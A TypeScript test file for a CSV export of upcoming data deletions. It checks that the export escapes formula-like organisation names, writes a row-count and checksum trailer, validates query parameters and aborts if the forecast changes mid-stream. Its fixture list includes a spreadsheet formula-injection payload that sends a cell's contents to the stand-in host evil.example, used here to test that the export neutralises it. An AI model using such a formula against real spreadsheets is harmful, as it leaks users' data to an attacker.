import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { bearer } from "@/test/api-token";
import { settingsFromEnv } from "@/server/app-engine";
import { env } from "@/server/env";
import { refreshForecast } from "@/server/retention/forecast/snapshot";
import { apiRoute, callRoute, type ApiRoute } from "@/test/api-routes";
import { cellValue, readCsv } from "@/test/csv";
import { createTestDatabase, type TestDatabase } from "@/test/database";
import { useRouteEnvironment } from "@/test/route-env";
import { rowCounts } from "@/test/row-counts";

/** Org names a tenant can choose, each a formula or a CSV trap if written as it is. */
const NAMES = [
  '=HYPERLINK("https://evil.example/?leak="&A1,"Click for details")',
  "+1+1",
  "-2+3",
  "@SUM(A1:A9)",
  "\tTabbed",
  "\rReturned",
  "'Quoted Ltd",
  'Acme, Inc. "the best"\nsecond line',
  "Plain Org",
];
const DAY = 86_400_000;

let database: TestDatabase;
let route: ApiRoute;
let viewer: Record<string, string>;
beforeAll(async () => {
  database = await createTestDatabase();
  await useRouteEnvironment(database);
  const user = await database.db.user.create({
    data: { email: "viewer@test.dev", name: "Viewer", role: "VIEWER" },
  });
  viewer = await bearer(database.db, user.id);
  for (const [i, name] of NAMES.entries()) {
    const org = await database.db.organization.create({
      data: { name, slug: `org-${i}`, plan: "FREE" },
    });
    // Past the FREE plan's 30 days, so due today whatever today is.
    await database.db.artifact.create({
      data: {
        orgId: org.id,
        kind: "BLOG_POST",
        title: "t",
        objectKey: `orgs/${org.id}/a.bin`,
        bytes: 100n,
        createdAt: new Date(Date.now() - 40 * DAY),
      },
    });
  }
  route = await apiRoute("GET /api/deletions/export");
});
afterAll(async () => {
  const { appEngine } = await import("@/server/app-engine");
  await (await appEngine()).queue.stop();
  await database.drop();
});

const exportCsv = (query = "") => callRoute(route, {}, { headers: viewer, query });

describe("the upcoming deletions export", () => {
  it("neutralises org names a spreadsheet would run as formulas, and reads back exactly", async () => {
    const response = await exportCsv("?horizon=30&sort=org");
    expect(response.status).toBe(200);
    const { records } = readCsv(await response.text());
    const shown = new Map(records.map((r) => [cellValue(r.organization ?? ""), r.organization]));
    expect([...shown.keys()].sort()).toEqual([...NAMES].sort());
    expect(shown.get(NAMES[0] ?? "")).toBe(`'${NAMES[0]}`);
    for (const name of ["+1+1", "-2+3", "@SUM(A1:A9)", "\tTabbed", "\rReturned"])
      expect(shown.get(name)).toBe(`'${name}`);
    expect(shown.get("'Quoted Ltd")).toBe("''Quoted Ltd");
    expect(shown.get("Plain Org")).toBe("Plain Org");
  });

  it("ends with a line whose row count and SHA-256 match the file", async () => {
    const { records, trailer, sha256 } = readCsv(await (await exportCsv()).text());
    expect(records).toHaveLength(NAMES.length);
    expect(trailer).toEqual({ rows: NAMES.length, sha256 });
  });

  it.each([
    ["?from=2026-13-45", /^Invalid input: from: must be a calendar day/],
    ["?to=2026-02-30", /^Invalid input: to: must be a calendar day/],
    ["?from=2026-12-02&to=2026-12-01", /^Invalid input: to: must be on or after from$/],
    ["?horizon=45", /^Invalid input: horizon: must be 7, 30 or 90 days$/],
    ["?page=2147483648", /^Invalid input: page: /],
  ])("%s is refused with 400 naming the parameter, and changes nothing", async (query, message) => {
    const before = await rowCounts(database.db);
    const response = await exportCsv(query);
    expect(response.status).toBe(400);
    expect(((await response.json()) as { error: string }).error).toMatch(message);
    expect(await rowCounts(database.db)).toEqual(before);
  });

  it("a forecast recomputed while the file streams aborts it instead of ending it short", async () => {
    // More rows than the stream reads ahead, so the export is still running.
    const orgs = await database.db.organization.createManyAndReturn({
      data: Array.from({ length: 3000 }, (_, i) => ({
        name: `Fleet ${i}`,
        slug: `fleet-${i}`,
        plan: "FREE" as const,
      })),
    });
    await database.db.artifact.createMany({
      data: orgs.map((org) => ({
        orgId: org.id,
        kind: "BLOG_POST" as const,
        title: "t",
        objectKey: `orgs/${org.id}/a.bin`,
        bytes: 100n,
        createdAt: new Date(Date.now() - 40 * DAY),
      })),
    });
    const settings = settingsFromEnv(env());
    const latest = await database.db.forecastSnapshot.findFirst({ orderBy: { id: "desc" } });
    const withFleet = await refreshForecast(database.db, settings, new Date(), {
      newerThan: latest?.id ?? 0,
    });
    const response = await exportCsv();
    const reader = (response.body as ReadableStream<Uint8Array>).getReader();
    await reader.read();
    await refreshForecast(database.db, settings, new Date(), { newerThan: withFleet ?? 0 });
    await expect(
      (async () => {
        for (;;) if ((await reader.read()).done) return;
      })(),
    ).rejects.toThrow("The forecast was recomputed during the export; download it again.");
  });
});
